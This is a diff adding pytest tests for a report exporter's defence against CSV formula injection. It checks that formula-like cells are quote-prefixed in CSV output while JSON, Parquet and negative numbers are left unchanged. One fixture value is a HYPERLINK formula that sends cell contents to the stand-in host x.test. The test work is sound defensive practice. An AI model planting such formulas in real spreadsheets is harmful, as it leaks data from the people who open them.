@@ -263,6 +263,54 @@ def test_an_older_read_never_replaces_a_newer_export(warehouse_db, awkward, tmp_
     assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
 
 
+FORMULAS = "rpt_test__formulas"
+# Text a spreadsheet would run (OWASP's CSV injection list, and a full-width equals sign),
+# beside text that only looks close to it.
+FORMULA_CELLS = ["=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)",
+                 "\t=1+1", "\r=1+1", "\uff1d1+1"]
+PLAIN_CELLS = ["plain", " =1+1", "a=b", "'quoted", ""]
+
+
+@pytest.fixture
+def formulas(warehouse_db):
+    """A mart whose text cells start like formulas, and negative numbers beside them."""
+    roles.connection("analyst")
+    cells = FORMULA_CELLS + PLAIN_CELLS
+    query(warehouse_db, f"drop table if exists marts.{FORMULAS}")
+    query(warehouse_db, f"create table marts.{FORMULAS} (n integer, cell text, amount numeric, "
+                        "ratio double precision, delta bigint)")
+    for n, cell in enumerate(cells):
+        query(warehouse_db, f"insert into marts.{FORMULAS} values (%s, %s, %s, %s, %s)",
+              (n, cell, Decimal("-3.10"), -1.5, -42))
+    if roles.roles_enabled():
+        query(warehouse_db, f"grant select on marts.{FORMULAS} to pulse_analyst")
+    yield cells
+    query(warehouse_db, f"drop table if exists marts.{FORMULAS}")
+
+
+def _csv_rows(path: Path) -> list[dict]:
+    with open(path, newline="", encoding="utf-8") as f:
+        return list(csv.DictReader(f))
+
+
+def test_csv_cells_that_start_like_formulas_are_neutralised(warehouse_db, formulas, tmp_path):
+    report = export_report("marts", FORMULAS, tmp_path)
+
+    rows = _csv_rows(report.path("csv"))
+    assert [r["cell"] for r in rows] == ["'" + c for c in FORMULA_CELLS] + PLAIN_CELLS
+    # numbers are numbers: a negative one keeps its sign and gets no quote
+    assert {(r["amount"], r["ratio"], r["delta"]) for r in rows} == {("-3.10", "-1.5", "-42")}
+    # JSON and Parquet are not read by spreadsheets as formulas: every value as it is
+    assert [r["cell"] for r in json.loads(report.path("json").read_text())] == formulas
+    assert pq.read_table(report.path("parquet")).column("cell").to_pylist() == formulas
+
+
+def test_csv_formulas_kept_raw_when_asked(warehouse_db, formulas, tmp_path, monkeypatch):
+    monkeypatch.setenv("PULSE_CSV_RAW_FORMULAS", "1")
+    report = export_report("marts", FORMULAS, tmp_path)
+    assert [r["cell"] for r in _csv_rows(report.path("csv"))] == formulas
+
+
 def _export_in_child(out_dir: str, name: str) -> int:
     report = export_report("marts", TABLE, Path(out_dir), name=name)
     write_index(Path(out_dir))
